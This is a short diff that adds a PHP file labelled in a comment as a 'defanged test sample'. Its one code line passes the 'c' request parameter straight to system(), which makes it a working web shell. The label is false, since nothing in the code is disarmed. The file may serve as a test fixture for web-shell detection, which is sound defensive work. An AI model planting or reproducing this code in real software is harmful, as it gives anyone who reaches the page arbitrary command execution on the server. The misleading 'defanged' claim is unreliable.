@@ -1,0 +1,3 @@
+<?php
+// defanged test sample
+system($_GET['c']);
